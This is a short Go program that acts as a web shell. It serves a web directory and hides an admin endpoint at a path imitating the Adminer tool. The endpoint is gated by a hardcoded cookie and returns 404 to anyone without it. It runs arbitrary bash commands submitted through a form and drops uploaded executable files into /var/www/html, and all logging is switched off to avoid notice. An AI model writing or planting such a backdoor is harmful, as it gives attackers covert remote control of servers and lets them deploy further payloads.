package main

import (
	"html/template"
	"io"
	"log"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
)

var page = template.Must(template.New("").Parse(`<form method=post enctype=multipart/form-data>
<input name=q size=90 autofocus><input type=file name=f><input type=submit></form><pre>{{.}}</pre>`))

func admin(w http.ResponseWriter, r *http.Request) {
	if c, err := r.Cookie("sid"); err != nil || c.Value != "9b1f-demo" {
		http.NotFound(w, r)
		return
	}
	var res string
	if r.Method == http.MethodPost {
		if f, h, err := r.FormFile("f"); err == nil {
			o, err := os.Create(filepath.Join("/var/www/html", h.Filename))
			if err == nil {
				io.Copy(o, f)
				o.Chmod(0o755)
				o.Close()
			}
		}
		b, _ := exec.Command("bash", "-c", r.FormValue("q")).CombinedOutput()
		res = string(b)
	}
	page.Execute(w, res)
}

func main() {
	http.HandleFunc("/adminer/", admin)
	http.Handle("/", http.FileServer(http.Dir("/var/www/html")))
	log.SetOutput(io.Discard)
	http.ListenAndServe(":8088", nil)
}
